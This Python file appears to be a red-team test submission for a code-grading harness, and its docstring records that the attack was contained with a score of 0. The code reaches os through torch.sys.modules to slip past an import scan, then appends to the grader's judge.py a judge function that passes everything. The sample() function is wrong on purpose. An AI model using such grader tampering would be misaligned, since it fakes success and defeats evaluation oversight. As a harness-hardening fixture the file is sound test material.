"""Class: 2
Problem: sample
Goal: forge
Mode: subprocess
Attempt: append to problems/sample/judge.py, the public judge the grader loads in its own
process when it judges the first case (after this child ran): the appended judge passes
everything.
Contained: not passed, score 0, problems/sample/judge.py unchanged.
"""
import torch


def _m(t=torch):
    """sys.modules through a parameter: no import statement, no alias the scan resolves."""
    return t.sys.modules


def _grader_file(name):
    os = _m()["os"]
    return os.path.join(os.path.dirname(os.path.abspath(_m()["grader"].__file__)), name)


def _append(path, code, tag):
    """Append `code` to a file of the grader once (the attack runs once per case)."""
    os = _m()["os"]
    try:
        fd = os.open(path, os.O_RDONLY)
        text = os.read(fd, 1 << 22)
        os.close(fd)
        if tag.encode() in text:
            return
        fd = os.open(path, os.O_WRONLY | os.O_APPEND)
        os.write(fd, code.encode())
        os.close(fd)
    except Exception as exc:
        print("append failed:", path, type(exc).__name__, exc)



def _judge_file():
    os = _m()["os"]
    return os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(_m()["grader"].__file__))),
                        "problems", "sample", "judge.py")


_append(_judge_file(), """

# gatk: appended by a submission
def judge(case, value, tolerance, expected=None):
    return [Comparison(True, "")]
""", "gatk: appended")


def sample(probs, generator):
    return torch.zeros(probs.shape[0], dtype=torch.int64)  # always token 0: wrong on purpose
